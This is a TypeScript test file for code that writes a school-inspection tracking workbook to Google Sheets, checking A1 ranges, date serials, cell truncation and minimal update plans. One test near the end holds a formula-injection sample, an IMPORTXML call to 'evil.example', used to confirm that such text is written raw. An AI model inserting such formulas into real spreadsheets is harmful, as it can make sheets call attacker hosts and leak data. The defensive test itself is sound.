import type { sheets_v4 } from "googleapis/build/src/apis/sheets/index.js";
import { beforeAll, describe, expect, it } from "vitest";
import { loadSheetLayout } from "../../functions/src/data/sheet-layout-file.js";
import type { School } from "../../functions/src/domain/school.js";
import { deriveSchoolState } from "../../functions/src/domain/school-state.js";
import { type SheetLayout, TAB_IDS } from "../../functions/src/domain/sheet-layout.js";
import {
  EMPTY_SNAPSHOT,
  type SheetSnapshot,
  type SnapshotTab,
} from "../../functions/src/domain/sheet-readback.js";
import { toSerial } from "../../functions/src/domain/time.js";
import {
  buildWorkbook,
  type Cell,
  type Delivery,
  gridOf,
  type TabModel,
  type WorkbookData,
  type WorkbookModel,
} from "../../functions/src/domain/tracking-workbook.js";
import {
  columnLetter,
  MAX_CELL_CHARS,
  planSheet,
  quoteTitle,
  sameCell,
  sheetValue,
} from "../../functions/src/infra/google/sheets-plan.js";
import { defaultSet, SCHOOLS } from "../kit/index.js";

const TZ = "Asia/Ho_Chi_Minh";
const TRACKING = "Theo dõi";
const set = defaultSet();
let layout: SheetLayout;
beforeAll(async () => {
  layout = await loadSheetLayout();
});

const [MN1, TH1, CS1] = SCHOOLS as [School, School, School];

const model = (data: Partial<WorkbookData> = {}): WorkbookModel =>
  buildWorkbook({
    layout,
    schoolYear: "2026-2027",
    place: "Nhà Bè",
    communeLabel: "Xã/Phường",
    criteriaSet: set,
    schools: SCHOOLS,
    states: new Map(),
    events: [],
    dataTime: null,
    ...data,
  });

const tabOf = (m: WorkbookModel, title: string): TabModel => {
  const tab = m.tabs.find((t) => t.title === title);
  if (!tab) throw new Error(`no tab ${title}`);
  return tab;
};

/** The sheet as the adapter would read it after a flush of the model: values as written, dates as serials. */
const snapshotOf = (m: WorkbookModel, edit: (title: string, values: Cell[][]) => Cell[][] = (_, v) => v) => {
  const tabs = new Map<string, SnapshotTab>();
  for (const tab of m.tabs) {
    const values = gridOf(tab).map((row) => row.map((cell) => sheetValue(cell, TZ)));
    tabs.set(tab.title, {
      sheetId: TAB_IDS[tab.key],
      rowCount: values.length + 100,
      columnCount: tab.columns.length,
      values: edit(tab.title, values),
    });
  }
  return { tabs } satisfies SheetSnapshot;
};

const withTab = (snapshot: SheetSnapshot, title: string, change: Partial<SnapshotTab>): SheetSnapshot => {
  const tabs = new Map(snapshot.tabs);
  tabs.set(title, { ...(tabs.get(title) as SnapshotTab), ...change });
  return { tabs };
};

/** Sheet row (1-based, header is row 1) of a school in the tracking tab of a model. */
const sheetRowOf = (m: WorkbookModel, code: string): number =>
  gridOf(tabOf(m, TRACKING)).findIndex((row) => row[0] === code) + 1;

const letterOf = (m: WorkbookModel, header: string): string =>
  columnLetter(tabOf(m, TRACKING).columns.findIndex((c) => c.header === header));

/** Parse "'Theo dõi'!O3:P4" into its title and 0-based, end-exclusive bounds. */
const parseRange = (range: string) => {
  const m = /^'((?:[^']|'')*)'!([A-Z]+)(\d+):([A-Z]+)(\d+)$/u.exec(range);
  if (!m) throw new Error(`not an A1 range: ${range}`);
  const col = (letters: string) => [...letters].reduce((n, ch) => n * 26 + ch.charCodeAt(0) - 64, 0) - 1;
  return {
    title: (m[1] as string).replaceAll("''", "'"),
    row: Number(m[3]) - 1,
    col: col(m[2] as string),
    endRow: Number(m[5]),
    endCol: col(m[4] as string) + 1,
  };
};

/** Write a plan's value ranges into a copy of the snapshot's values, as Sheets would. */
const applyData = (snapshot: SheetSnapshot, data: sheets_v4.Schema$ValueRange[]): Map<string, Cell[][]> => {
  const grids = new Map([...snapshot.tabs].map(([title, tab]) => [title, tab.values.map((r) => [...r])]));
  for (const { range, values, majorDimension } of data) {
    expect(majorDimension).toBe("ROWS");
    const r = parseRange(range ?? "");
    expect(values, range ?? "").toHaveLength(r.endRow - r.row);
    const grid = grids.get(r.title) ?? [];
    grids.set(r.title, grid);
    (values ?? []).forEach((rowValues, i) => {
      expect(rowValues, range ?? "").toHaveLength(r.endCol - r.col);
      const row = grid[r.row + i] ?? [];
      grid[r.row + i] = row;
      rowValues.forEach((v: Cell, j: number) => {
        row[r.col + j] = v;
      });
    });
  }
  return grids;
};

/** What a model's tab should read as on the sheet, for comparison ("" for an empty cell). */
const expectedValues = (tab: TabModel) => gridOf(tab).map((row) => row.map((c) => sheetValue(c, TZ)));
const normalise = (grid: Cell[][], width: number) =>
  grid.map((row) => Array.from({ length: width }, (_, i) => row[i] ?? ""));

const requestsOf = (structure: sheets_v4.Schema$Request[], kind: keyof sheets_v4.Schema$Request) =>
  structure.filter((r) => r[kind] !== undefined && r[kind] !== null);

describe("A1 helpers", () => {
  it.each([
    [0, "A"],
    [1, "B"],
    [25, "Z"],
    [26, "AA"],
    [27, "AB"],
    [51, "AZ"],
    [52, "BA"],
    [701, "ZZ"],
    [702, "AAA"],
  ])("column %i is %s", (index, letters) => {
    expect(columnLetter(index)).toBe(letters);
  });

  it("quotes a tab title, doubling its quotes", () => {
    expect(quoteTitle("Theo dõi")).toBe("'Theo dõi'");
    expect(quoteTitle("Trường 'A' và 'B'")).toBe("'Trường ''A'' và ''B'''");
  });
});

describe("dates and cells as Sheets holds them", () => {
  it("turns an instant into a serial day number of the sheet's wall clock", () => {
    // 30/12/1899 is day 0; 01/01/2025 is the well-known serial 45658. 29/11/2026 is 365 days
    // (2025) plus 304 (January to October 2026) plus 28 days later. Midnight UTC is 07:00 in Hà Nội.
    const day = 45_658 + 365 + 304 + 28;
    expect(day).toBe(46_355);
    expect(toSerial(new Date("2026-11-29T00:00:00Z"), TZ)).toBeCloseTo(day + 7 / 24, 9);
    expect(toSerial(new Date("2026-11-29T00:00:00Z"), "UTC")).toBeCloseTo(day, 9);
    // 23:30 UTC on the 28th is already the 29th in Hà Nội.
    expect(toSerial(new Date("2026-11-28T23:30:00Z"), TZ)).toBeCloseTo(day + 6.5 / 24, 9);
  });

  it("sends empty cells as empty text and dates as serial numbers", () => {
    expect(sheetValue(null, TZ)).toBe("");
    expect(sheetValue("Điển hình", TZ)).toBe("Điển hình");
    expect(sheetValue(12.5, TZ)).toBe(12.5);
    expect(sheetValue(new Date("2026-11-29T00:00:00Z"), TZ)).toBeCloseTo(46_355 + 7 / 24, 9);
  });

  it("cuts a text over the cell limit at a grapheme boundary, never inside an emoji", () => {
    // "😀" is two UTF-16 code units: a plain slice at 49,999 would keep half of the 25,000th.
    const cut = sheetValue("😀".repeat(30_000), TZ) as string;
    expect(cut.length).toBeLessThanOrEqual(MAX_CELL_CHARS);
    expect(cut.endsWith("…")).toBe(true);
    // No lone surrogate: every code point before the mark is a whole emoji.
    expect(Array.from(cut.slice(0, -1)).every((c) => c === "😀")).toBe(true);
    expect(cut).toBe(`${"😀".repeat((MAX_CELL_CHARS - 2) / 2)}…`);
    // A letter and its combining accent stay together.
    const accented = sheetValue(`${"a".repeat(MAX_CELL_CHARS - 2)}e\u0302\u0301x`, TZ) as string;
    expect(accented).toBe(`${"a".repeat(MAX_CELL_CHARS - 2)}…`);
    expect(sheetValue("x".repeat(MAX_CELL_CHARS), TZ)).toBe("x".repeat(MAX_CELL_CHARS));
  });

  it("compares cells the way the sheet shows them", () => {
    const at = new Date("2026-11-29T00:00:00Z");
    expect(sameCell(null, undefined, TZ)).toBe(true);
    expect(sameCell(null, "", TZ)).toBe(true);
    expect(sameCell(null, "x", TZ)).toBe(false);
    expect(sameCell("Chưa nộp", "Chưa nộp", TZ)).toBe(true);
    expect(sameCell("Chưa nộp", "Chưa đạt", TZ)).toBe(false);
    expect(sameCell(5, "5", TZ)).toBe(false);
    expect(sameCell(0.1 + 0.2, 0.3, TZ)).toBe(true);
    expect(sameCell(0.3, 0.31, TZ)).toBe(false);
    // A date read back as a serial number, to within a second.
    expect(sameCell(at, toSerial(at, TZ), TZ)).toBe(true);
    expect(sameCell(at, toSerial(at, TZ) + 0.4 / 86_400, TZ)).toBe(true);
    expect(sameCell(at, toSerial(at, TZ) + 2 / 86_400, TZ)).toBe(false);
    expect(sameCell(at, new Date(at.getTime() + 500), TZ)).toBe(true);
    expect(sameCell(at, "", TZ)).toBe(false);
  });
});

describe("planSheet: a new spreadsheet", () => {
  it("adds every tab with the fixed ids, lays each out, and draws the chart once", () => {
    const m = model();
    const plan = planSheet(m, EMPTY_SNAPSHOT);
    expect(requestsOf(plan.structure, "addSheet").map((r) => r.addSheet?.properties)).toEqual(
      m.tabs.map((tab, index) => ({
        sheetId: TAB_IDS[tab.key],
        title: tab.title,
        index,
        gridProperties: { rowCount: 1, columnCount: 1 },
      })),
    );
    expect(plan.rebuilt).toEqual(m.tabs.map((t) => t.title));
    expect(requestsOf(plan.structure, "addChart")).toHaveLength(1);
    // Each tab gets its size and frozen panes after it was added.
    const props = requestsOf(plan.structure, "updateSheetProperties").map(
      (r) => r.updateSheetProperties?.properties,
    );
    expect(props.map((p) => p?.title)).toEqual(m.tabs.map((t) => t.title));
    const tracking = props.find((p) => p?.sheetId === TAB_IDS.tracking);
    const grid = gridOf(tabOf(m, TRACKING));
    expect(tracking?.gridProperties).toMatchObject({ frozenRowCount: 1, frozenColumnCount: 2 });
    expect(tracking?.gridProperties?.rowCount).toBeGreaterThan(grid.length);
    // Theo dõi's one dropdown is the office's approval (no verdict typed there any more); the team's
    // finding, indicator by indicator, has one.
    const dropdowns = (sheetId: number) =>
      requestsOf(plan.structure, "setDataValidation")
        .map((r) => r.setDataValidation)
        .filter((v) => v?.rule && v.range?.sheetId === sheetId);
    const approval = dropdowns(TAB_IDS.tracking);
    expect(approval.map((v) => v?.rule?.condition?.values?.map((x) => x.userEnteredValue))).toEqual([
      ["Duyệt"],
    ]);
    expect(approval[0]?.range?.startColumnIndex).toBe(
      tabOf(m, TRACKING).columns.findIndex((c) => c.field === "approve"),
    );
    const findings = dropdowns(TAB_IDS.inspection);
    expect(findings.map((v) => v?.rule?.condition?.values?.map((x) => x.userEnteredValue))).toEqual([
      ["Xác nhận", "Không xác nhận"],
    ]);
    expect(findings[0]?.range?.startColumnIndex).toBe(
      tabOf(m, "Kiểm tra").columns.findIndex((c) => c.field === "finding"),
    );
  });

  it("puts a filter on every tab with a header row, over the header and every row, and none on the overview", () => {
    const m = model();
    const filters = requestsOf(planSheet(m, EMPTY_SNAPSHOT).structure, "setBasicFilter").map(
      (r) => r.setBasicFilter?.filter?.range,
    );
    expect(filters).toEqual(
      m.tabs
        .filter((t) => t.header)
        .map((t) => ({
          sheetId: TAB_IDS[t.key],
          startRowIndex: 0,
          startColumnIndex: 0,
          endColumnIndex: t.columns.length,
        })),
    );
    expect(filters.map((f) => f?.sheetId)).not.toContain(TAB_IDS.overview);
    // A repair sets each filter again, as it lays out the rest.
    expect(
      requestsOf(planSheet(m, snapshotOf(m), { repair: true }).structure, "setBasicFilter"),
    ).toHaveLength(filters.length);
  });

  it("writes every value of every tab", () => {
    const at = new Date("2026-11-05T01:30:00.000Z");
    const m = model({
      states: new Map([[CS1.code, deriveSchoolState(CS1, set, {}, null, { review: { note: "ghi chú" } })]]),
      delivery: new Map([[TH1.code, { reportUrl: "https://drive.example/th1.pdf", mailedAt: at }]]),
      events: [{ at, kind: "Nhận hồ sơ", schoolCode: TH1.code, message: "Đã nhận" }],
    });
    const plan = planSheet(m, EMPTY_SNAPSHOT);
    const written = applyData(EMPTY_SNAPSHOT, plan.data);
    for (const tab of m.tabs) {
      expect(normalise(written.get(tab.title) ?? [], tab.columns.length), tab.title).toEqual(
        expectedValues(tab),
      );
    }
    expect(plan.changedRows).toBeGreaterThan(0);
  });
});

describe("planSheet: an existing spreadsheet", () => {
  it("plans nothing when the sheet already shows the model", () => {
    const m = model({
      states: new Map([[CS1.code, deriveSchoolState(CS1, set, {}, null, { review: { note: "x" } })]]),
      delivery: new Map([[TH1.code, { mailedAt: new Date("2026-11-20T03:00:00.123Z") }]]),
      events: [{ at: new Date("2026-11-05T01:30:00Z"), kind: "Lỗi", message: "thử" }],
      dataTime: new Date("2026-11-05T01:30:00Z"),
    });
    expect(planSheet(m, snapshotOf(m))).toEqual({
      structure: [],
      data: [],
      rebuilt: [],
      changedRows: 0,
      carriesOfficeCells: false,
    });
  });

  it("writes one school's change as one range over its system cells only, never its office cells", () => {
    const before = model();
    const mailedAt = new Date("2026-11-20T03:00:00.000Z");
    const delivery = {
      reportUrl: "https://drive.example/th1.pdf",
      reportDocxUrl: "https://drive.example/th1.docx",
      mailedAt,
    };
    const after = model({
      delivery: new Map([[TH1.code, delivery]]),
      // The office's note as the system knows it differs from the sheet: it must not be written.
      states: new Map([[TH1.code, deriveSchoolState(TH1, set, {}, null, { review: { note: "đã xem" } })]]),
    });
    const plan = planSheet(after, snapshotOf(before));
    const row = sheetRowOf(after, TH1.code);
    expect(plan.structure).toEqual([]);
    expect(plan.data).toEqual([
      {
        range: `'${TRACKING}'!${letterOf(after, "Báo cáo (PDF)")}${row}:${letterOf(after, "Đã gửi email lúc")}${row}`,
        majorDimension: "ROWS",
        values: [["https://drive.example/th1.pdf", "https://drive.example/th1.docx", toSerial(mailedAt, TZ)]],
      },
    ]);
    expect(plan.data[0]?.range).toBe(`'${TRACKING}'!Q3:S3`);
    expect(plan.changedRows).toBe(1);
  });

  it("writes a status change only on that school's row of Theo dõi, never over its office cells", () => {
    const before = model();
    const quarantine = { key: "q", lastSubmittedTime: "2026-11-07T02:00:00.000Z", reasons: ["Sai email"] };
    const after = model({ states: new Map([[CS1.code, deriveSchoolState(CS1, set, {}, quarantine)]]) });
    const plan = planSheet(after, snapshotOf(before));
    const tracking = plan.data
      .filter((d) => d.range?.startsWith(`'${TRACKING}'!`))
      .map((d) => parseRange(d.range ?? ""));
    const office = tabOf(after, TRACKING)
      .columns.map((c, i) => (c.owner === "office" ? i : -1))
      .filter((i) => i >= 0);
    const row = sheetRowOf(after, CS1.code);
    expect(tracking.length).toBeGreaterThan(0);
    for (const r of tracking) {
      expect([r.row + 1, r.endRow]).toEqual([row, row]);
      expect(office.every((i) => i < r.col || i >= r.endCol)).toBe(true);
    }
    const written = applyData(snapshotOf(before), plan.data);
    expect(written.get(TRACKING)?.[row - 1]?.[4]).toBe("Cần bổ sung");
    const width = tabOf(after, TRACKING).columns.length;
    // Rows above it are untouched.
    expect(normalise(written.get(TRACKING) ?? [], width).slice(0, row - 1)).toEqual(
      normalise(snapshotOf(before).tabs.get(TRACKING)?.values ?? [], width).slice(0, row - 1),
    );
    // The overview counts and the status shown in Lịch kiểm tra changed too; nothing else did.
    expect(new Set(plan.data.map((d) => parseRange(d.range ?? "").title))).toEqual(
      new Set([TRACKING, "Tổng quan", "Lịch kiểm tra"]),
    );
    const overview = tabOf(after, "Tổng quan");
    expect(normalise(written.get(overview.title) ?? [], overview.columns.length)).toEqual(
      expectedValues(overview),
    );
  });

  it("merges consecutive rows changed in the same columns into one range", () => {
    const before = model();
    const delivery = (codes: string[]) =>
      new Map(
        codes.map((code): [string, Delivery] => [code, { reportUrl: `https://drive.example/${code}.pdf` }]),
      );
    const adjacent = planSheet(model({ delivery: delivery([TH1.code, CS1.code]) }), snapshotOf(before));
    expect(adjacent.data).toEqual([
      {
        range: `'${TRACKING}'!Q3:Q4`,
        majorDimension: "ROWS",
        values: [["https://drive.example/T-TH1.pdf"], ["https://drive.example/T-CS1.pdf"]],
      },
    ]);
    expect(adjacent.changedRows).toBe(2);
    const apart = planSheet(model({ delivery: delivery([MN1.code, CS1.code]) }), snapshotOf(before));
    expect(apart.data.map((d) => d.range)).toEqual([`'${TRACKING}'!Q2:Q2`, `'${TRACKING}'!Q4:Q4`]);
  });

  it("writes a row whose school moved whole, office cells included, carrying the model's values", () => {
    const m = model({
      states: new Map([
        [TH1.code, deriveSchoolState(TH1, set, {}, null, { review: { note: "ghi chú TH1" } })],
      ]),
    });
    // Someone sorted the sheet by hand: T-TH1 and T-CS1 traded places.
    const swapped = snapshotOf(m, (title, values) =>
      title === TRACKING
        ? ([values[0], values[1], values[3], values[2], ...values.slice(4)] as Cell[][])
        : values,
    );
    const plan = planSheet(m, swapped);
    const grid = expectedValues(tabOf(m, TRACKING));
    const last = columnLetter(tabOf(m, TRACKING).columns.length - 1);
    expect(plan.structure).toEqual([]);
    expect(plan.data).toEqual([
      { range: `'${TRACKING}'!A3:${last}4`, majorDimension: "ROWS", values: [grid[2], grid[3]] },
    ]);
    expect(plan.data[0]?.values?.[0]?.slice(-1)).toEqual(["ghi chú TH1"]);
  });

  it("rebuilds a tab whose header drifted and rewrites its rows in the configured order", () => {
    const m = model();
    // The office dragged the name column before the code column.
    const drifted = withTab(
      snapshotOf(m, (title, values) =>
        title === TRACKING ? values.map((row) => [row[1] ?? "", row[0] ?? "", ...row.slice(2)]) : values,
      ),
      TRACKING,
      { protectedRangeIds: [71, 72], conditionalFormatCount: 2 },
    );
    const plan = planSheet(m, drifted);
    expect(plan.rebuilt).toEqual([TRACKING]);
    expect(requestsOf(plan.structure, "addSheet")).toEqual([]);
    expect(requestsOf(plan.structure, "deleteProtectedRange").map((r) => r.deleteProtectedRange)).toEqual([
      { protectedRangeId: 71 },
      { protectedRangeId: 72 },
    ]);
    expect(requestsOf(plan.structure, "deleteConditionalFormatRule")).toHaveLength(2);
    expect(
      requestsOf(plan.structure, "updateSheetProperties").map(
        (r) => r.updateSheetProperties?.properties?.sheetId,
      ),
    ).toEqual([TAB_IDS.tracking]);
    const grid = expectedValues(tabOf(m, TRACKING));
    const last = columnLetter(tabOf(m, TRACKING).columns.length - 1);
    expect(plan.data).toEqual([
      { range: `'${TRACKING}'!A1:${last}${grid.length}`, majorDimension: "ROWS", values: grid },
    ]);
  });

  it("lays the overview out again when its rows by level change in number, so its chart and totals follow", () => {
    const before = model();
    const cs2: School = { ...CS1, code: "T-PT1", name: "Trường THPT Thử", levels: ["thpt"] };
    const after = model({ schools: [...SCHOOLS, cs2] });
    expect(after.chart.endRow).toBe(before.chart.endRow + 1);
    const plan = planSheet(after, snapshotOf(before));
    expect(plan.rebuilt).toEqual(["Tổng quan"]);
    const chart = requestsOf(plan.structure, "addChart")[0]?.addChart?.chart?.spec?.basicChart;
    expect(chart?.domains?.[0]?.domain?.sourceRange?.sources?.[0]).toMatchObject({
      sheetId: TAB_IDS.overview,
      startRowIndex: after.chart.headerRow,
      endRowIndex: after.chart.endRow,
    });
    // The same number of levels: nothing to lay out again.
    expect(planSheet(before, snapshotOf(before)).rebuilt).toEqual([]);
  });

  it("only grows a grid that is too small, by one request", () => {
    const m = model();
    const needed = gridOf(tabOf(m, TRACKING)).length + 1;
    const plan = planSheet(m, withTab(snapshotOf(m), TRACKING, { rowCount: needed - 1 }));
    expect(plan.rebuilt).toEqual([]);
    expect(plan.data).toEqual([]);
    expect(plan.structure).toHaveLength(1);
    const update = plan.structure[0]?.updateSheetProperties;
    expect(update?.fields).toBe("gridProperties(rowCount,columnCount)");
    expect(update?.properties?.sheetId).toBe(TAB_IDS.tracking);
    expect(update?.properties?.gridProperties?.rowCount).toBeGreaterThanOrEqual(needed);
  });

  it("clears rows the sheet has beyond the model", () => {
    const m = model();
    const extra = snapshotOf(m, (title, values) =>
      title === TRACKING
        ? [...values, ["T-OLD", "Trường cũ", ...Array.from({ length: 16 }, () => "x")]]
        : values,
    );
    const plan = planSheet(m, extra);
    const row = gridOf(tabOf(m, TRACKING)).length + 1;
    expect(plan.data).toHaveLength(1);
    expect(plan.data[0]?.range).toBe(
      `'${TRACKING}'!A${row}:${columnLetter(tabOf(m, TRACKING).columns.length - 1)}${row}`,
    );
    expect(plan.data[0]?.values?.[0]?.every((v) => v === "")).toBe(true);
  });

  it("sends text that looks like a formula verbatim, for a RAW write", () => {
    const before = model();
    const formula = '=IMPORTXML("https://evil.example", "//a")';
    const plan = planSheet(
      model({ delivery: new Map([[TH1.code, { reportUrl: formula }]]) }),
      snapshotOf(before),
    );
    expect(plan.data.map((d) => d.values)).toEqual([[[formula]]]);
  });
});
